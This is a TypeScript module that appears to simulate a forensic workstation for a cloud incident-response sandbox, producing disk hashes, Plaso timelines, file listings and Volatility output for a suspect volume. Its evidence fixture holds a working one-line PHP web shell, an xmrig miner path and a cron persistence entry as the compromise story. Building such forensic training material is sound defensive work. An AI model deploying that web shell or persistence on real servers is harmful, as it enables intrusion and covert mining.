// The simulated examination workstation: answers Custody-Workstation* documents from the scenario's volumes and memory.
import { createHash } from 'node:crypto';
import { verifyPresignedUrl } from './presigned-url';
import type { Sandbox } from './sandbox';
import type { InstanceState, RegionState, SnapshotState, VolumeState } from './scenario';
import { s3Store } from './s3-store';
import type { AgentRequest } from './ssm-agent';
import { authorise, CommandFailure, httpFailure, param, putPart } from './ssm-agent';
import { volatileData } from './ssm-volatile';

/** Tool versions the sandbox's workstation image reports (the Image Builder recipe pins the same ones). */
export const WORKSTATION_TOOLS = { plaso: '20240308', sleuthkit: '4.12.1', volatility3: '2.7.0' } as const;

export interface SimFile {
  readonly path: string;
  readonly modified: string;
  readonly content: string;
  readonly mode: string;
}

interface Source {
  readonly accountId: string;
  readonly volume: VolumeState;
  readonly instance?: InstanceState;
}

/** Follows a volume's snapshot back through its copies (CopySnapshot's source) to the suspect's original volume. */
export function traceSource(sandbox: Sandbox, region: string, volume: VolumeState): Source | undefined {
  let snapshotId = volume.snapshotId;
  for (let hops = 0; snapshotId && hops < 8; hops += 1) {
    const found = findSnapshot(sandbox, region, snapshotId);
    if (!found) return undefined;
    const original = found.state.volumes.find((candidate) => candidate.volumeId === found.snapshot.volumeId);
    if (original && !found.snapshot.sourceSnapshotId) {
      const instance = found.state.instances.find((i) => i.blockDevices.some((d) => d.volumeId === original.volumeId));
      return { accountId: found.accountId, volume: original, instance };
    }
    snapshotId = found.snapshot.sourceSnapshotId;
  }
  return undefined;
}

function findSnapshot(sandbox: Sandbox, region: string, snapshotId: string) {
  for (const account of sandbox.scenario.accounts) {
    const state = account.regions[region];
    const snapshot = state?.snapshots.find((candidate: SnapshotState) => candidate.snapshotId === snapshotId);
    if (state && snapshot) return { accountId: account.accountId, state, snapshot };
  }
  return undefined;
}

/** The files of a source volume: the scenario's own, or the web server's story (what the volatile data also shows). */
export function filesOf(source: Source): SimFile[] {
  if (source.volume.files) return source.volume.files.map((file) => ({ ...file }));
  const root = source.instance?.rootDeviceName;
  const device = source.instance?.blockDevices.find((d) => d.volumeId === source.volume.volumeId)?.deviceName;
  if (device && device !== root)
    return [
      { path: '/srv/www/index.html', modified: '2026-10-02T09:00:00.000Z', content: '<h1>shop</h1>\n', mode: '0644' },
    ];
  return [
    {
      path: '/etc/passwd',
      modified: '2026-11-01T08:00:00.000Z',
      content: 'root:x:0:0:root:/root:/bin/bash\nnginx:x:995:993::/var/lib/nginx:/sbin/nologin\n',
      mode: '0644',
    },
    {
      path: '/var/log/nginx/access.log',
      modified: '2026-11-27T22:41:07.000Z',
      content: '203.0.113.66 - - [27/Nov/2026:22:41:07 +0000] "POST /upload.php HTTP/1.1" 200 12\n',
      mode: '0640',
    },
    {
      path: '/srv/www/upload.php',
      modified: '2026-11-27T22:40:51.000Z',
      content: '<?php system($_REQUEST["c"]); ?>\n',
      mode: '0644',
    },
    {
      path: '/tmp/.X11-unix/xmrig',
      modified: '2026-11-27T22:43:12.000Z',
      content: 'ELF xmrig 6.21.0 (sandbox stand-in)\n',
      mode: '0755',
    },
    {
      path: '/var/spool/cron/nginx',
      modified: '2026-11-27T22:44:30.000Z',
      content: '*/5 * * * * /tmp/.X11-unix/xmrig -B\n',
      mode: '0600',
    },
  ];
}

function sha256(data: string | Buffer): string {
  return createHash('sha256').update(data).digest('hex');
}

/**
 * The acquisition hash of a whole device. The sandbox has no block devices, so it hashes a deterministic stand-in image (its
 * files serialised in order): equal contents hash alike, and any change to a file changes the volume's hash.
 */
export function deviceImage(files: readonly SimFile[]): Buffer {
  return Buffer.concat(
    files.map((file) => Buffer.from(`${file.path}\0${file.mode}\0${file.modified}\0${file.content}\0`)),
  );
}

/** Plaso events as psort writes them for Timesketch: message, datetime, timestamp (µs), timestamp_desc, plus Plaso's own fields. */
export function timelineLines(volumeId: string, files: readonly SimFile[]): string[] {
  return files.map((file) =>
    JSON.stringify({
      message: `${file.path} Content Modification Time`,
      datetime: file.modified,
      timestamp: Date.parse(file.modified) * 1000,
      timestamp_desc: 'Content Modification Time',
      data_type: 'fs:stat',
      parser: 'filestat',
      filename: file.path,
      display_name: `EXT4:${file.path}`,
      volume_id: volumeId,
    }),
  );
}

function listingLines(volumeId: string, files: readonly SimFile[]): string[] {
  return files.map((file) =>
    JSON.stringify({
      volumeId,
      path: file.path,
      bytes: Buffer.byteLength(file.content),
      mode: file.mode,
      modified: file.modified,
      sha256: sha256(file.content),
    }),
  );
}

/** A scenario fault `{ service: "Workstation", operation: "<tool>" }` makes that tool fail on the workstation. */
function toolFault(sandbox: Sandbox, tool: string): string | undefined {
  return sandbox.scenario.faults.find((fault) => fault.service === 'Workstation' && fault.operation === tool)?.message;
}

async function upload(
  request: AgentRequest,
  out: string[],
  name: string,
  urlParam: string,
  body: string,
): Promise<void> {
  const bytes = Buffer.from(body);
  const part = await putPart(request, param(request, urlParam), [bytes]);
  out.push(`custody: part object=${name} n=1 bytes=${part.bytes} sha256=${part.sha256}`);
  out.push(`custody: object name=${name} bytes=${bytes.length} sha256=${sha256(bytes)} parts=1`);
}

function attached(request: AgentRequest, region: RegionState, volumeId: string, device: string): VolumeState {
  const volume = region.volumes.find((candidate) => candidate.volumeId === volumeId);
  const mapped = request.instance.blockDevices.some((d) => d.volumeId === volumeId && d.deviceName === device);
  if (!volume || !mapped)
    throw new CommandFailure(32, `mount: ${device}: special device does not exist (${volumeId} not attached)`);
  return volume;
}

export async function examineOnWorkstation(request: AgentRequest, out: string[]): Promise<void> {
  const { sandbox } = request;
  const region = sandbox.regionState(request.accountId, request.region);
  const timeline: string[] = [];
  const listing: string[] = [];
  for (const pair of param(request, 'volumes')
    .split(/\s+/)
    .filter((item) => item && item !== 'none')) {
    const [volumeId, device] = pair.split(':');
    const volume = attached(request, region, volumeId, device);
    const source = traceSource(sandbox, request.region, volume);
    const files = source ? filesOf(source) : [];
    const filesystem = source?.volume.filesystem ?? (source?.instance?.platform === 'windows' ? 'ntfs' : 'ext4');
    out.push(
      `custody: volume id=${volumeId} device=${device} bytes=${volume.sizeGiB * 1024 ** 3} sha256=${sha256(deviceImage(files))}`,
    );
    out.push(`custody: mounted partition=${device}1 filesystem=${filesystem} readonly=yes`);
    listing.push(...listingLines(volumeId, files));
    timeline.push(...timelineLines(volumeId, files));
  }
  const plasoFault = toolFault(sandbox, 'log2timeline');
  if (plasoFault) throw new CommandFailure(1, `log2timeline.py: ${plasoFault}`);
  out.push(`custody: tool name=plaso version=${WORKSTATION_TOOLS.plaso} object=timeline.jsonl`);
  out.push(`custody: tool name=sleuthkit version=${WORKSTATION_TOOLS.sleuthkit} object=listing.jsonl`);
  await upload(request, out, 'timeline.jsonl', 'timelineUrl', lines(timeline));
  await upload(request, out, 'listing.jsonl', 'listingUrl', lines(listing));
  const memoryUrl = request.parameters.memoryUrl?.[0] ?? 'none';
  if (memoryUrl === 'none') return;
  const memory = await readMemory(request, memoryUrl);
  const volFault = toolFault(sandbox, 'volatility3');
  if (volFault) throw new CommandFailure(1, `vol: ${volFault}`);
  for (const name of ['pslist.txt', 'netscan.txt', 'cmdline.txt'])
    out.push(`custody: tool name=volatility3 version=${WORKSTATION_TOOLS.volatility3} object=${name}`);
  await upload(request, out, 'pslist.txt', 'pslistUrl', memory.pslist);
  await upload(request, out, 'netscan.txt', 'netscanUrl', memory.netscan);
  await upload(request, out, 'cmdline.txt', 'cmdlineUrl', memory.cmdline);
}

function lines(items: readonly string[]): string {
  return items.length > 0 ? `${items.join('\n')}\n` : '';
}

/** Downloads the image through its presigned GET URL; what Volatility reads in it is the suspect's processes and sockets. */
async function readMemory(
  request: AgentRequest,
  url: string,
): Promise<{ pslist: string; netscan: string; cmdline: string }> {
  let key: string;
  try {
    const grant = verifyPresignedUrl(request.sandbox, 'GET', url);
    authorise(request.sandbox, grant, 's3:GetObject');
    s3Store(request.sandbox).version(grant.bucket, grant.key);
    key = grant.key;
  } catch (error) {
    return httpFailure('downloading the memory image', error);
  }
  // cases/<caseId>/<accountId>/<instanceId>/memory/<file>
  const [, , accountId, instanceId] = key.split('/');
  const state = request.sandbox.regionState(accountId, request.region);
  const suspect = state.instances.find((instance) => instance.instanceId === instanceId);
  if (!suspect) throw new CommandFailure(1, 'vol: unable to find a valid layer for the image');
  const data = volatileData(suspect, state);
  const rows = data['processes.txt']
    .split('\n')
    .filter((line) => line && !line.startsWith('#'))
    .map((line) => line.split('\t'));
  return {
    pslist: `Volatility 3 Framework ${WORKSTATION_TOOLS.volatility3}\nPID\tPPID\tCOMM\n${rows.map((r) => `${r[0]}\t${r[1]}\t${(r[4] ?? '').split('/').pop()}`).join('\n')}\n`,
    netscan: `Volatility 3 Framework ${WORKSTATION_TOOLS.volatility3}\n${data['sockets.txt']}`,
    cmdline: `Volatility 3 Framework ${WORKSTATION_TOOLS.volatility3}\nPID\tARGS\n${rows.map((r) => `${r[0]}\t${r[5] ?? ''}`).join('\n')}\n`,
  };
}
